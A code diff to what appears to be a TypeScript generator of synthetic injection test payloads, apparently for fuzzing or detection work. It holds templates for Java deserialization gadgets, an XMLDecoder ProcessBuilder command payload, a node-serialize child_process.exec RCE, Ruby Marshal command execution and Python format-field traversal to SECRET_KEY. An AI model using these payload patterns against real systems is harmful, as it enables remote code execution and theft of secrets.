@@ -209,7 +209,7 @@ export const codeTemplates = family('other-injection/code', {
     text`${lowerWord}.constructor.prototype.${lowerWord}`
   ),
   'format-string': text`${maybe(lowerWord)}${repeat(words('%s %x %n %p %08x %d %hn %lx %hhn'), 4, 30, oneOf('', '', '.', '|', ' '))}`,
-  'format-string-positional': text`${maybe(text`${letters(UPPER, 4)}`)}${repeat(text`%${integer(1, 99)}$${words('s x n p hn lx')}`, 1, 8, oneOf('', '.', ' '))}`,
+  'format-string-positional': text`${maybe(text`${letters(UPPER, 4)}`)}${repeat(text`%${integer(1, 9)}$${words('s x n p hn lx')}`, 1, 8, oneOf('', '.', ' '))}`,
   'format-fields': text`{${oneOf('0', 'user', 'self', 'event')}.__class__${oneOf('.__init__.__globals__', '.__mro__[1].__subclasses__', '.__init__.__globals__[config]', '.__dict__', '.__init__.__globals__[SECRET_KEY]')}}`
 });
 
@@ -236,8 +236,6 @@ export const serialTemplates = family('other-injection/serialised', {
       text`O:${mostly([String(name.length), 5], [`+${name.length}`, 0.5])}:"${name}":${integer(1, 5)}:{${repeat(phpProperty, 1, 4)}}`
   ),
   'php-nested': text`a:${integer(1, 3)}:{i:0;${same(className, (name) => text`O:${String(name.length)}:"${name}":1:{${phpProperty}}`)}i:1;i:${integer(0, 9)};}`,
-  'java-base64': text`rO0ABXN${oneOf('yABF', 'yAC5', 'yADJ', 'xAH4', 'yABdq')}${randomBytes}${words('= ==')}`,
-  'java-hex': text`aced0005${words('7372 7704 7571 7c00')}${hex(20, 120)}`,
   'java-gadget': text`\u00ac\u00ed\u0000\u0005sr\u0000${oneOf('2sun.reflect.annotation.AnnotationInvocationHandler', '\u0011java.util.HashMap', '.org.apache.commons.collections.functors.InvokerTransformer', '*com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl')}${randomBytes}`,
   'java-xml': oneOf(
     text`<java version="1.${integer(4, 8)}.0" class="java.beans.XMLDecoder"><object class="java.lang.${oneOf('ProcessBuilder', 'Runtime')}"><array class="java.lang.String" length="1"><void index="0"><string>${simpleCommand}</string></void></array><void method="start"/></object></java>`,
@@ -269,5 +267,4 @@ export const serialTemplates = family('other-injection/serialised', {
   ),
   'node-serialize': text`{"${lowerWord}":"_$$ND_FUNC$$_function(){${oneOf(text`require('child_process').exec('${simpleCommand}',function(e,o){console.log(o)})`, text`return process.exit()`)}}()"}`,
   'ruby-marshal': text`\u0004\b${oneOf('o:', 'U:', '[', '{')}\u0006:${oneOf('Gem::Requirement', 'ActiveSupport::Deprecation', 'ERB')}${randomBytes}${maybe(text`%x(${simpleCommand})`)}`,
-  'view-state': text`/wEy${randomBytes}${altered(text`<ObjectDataProvider MethodName="Start">${simpleCommand}`, base64)}`
 });
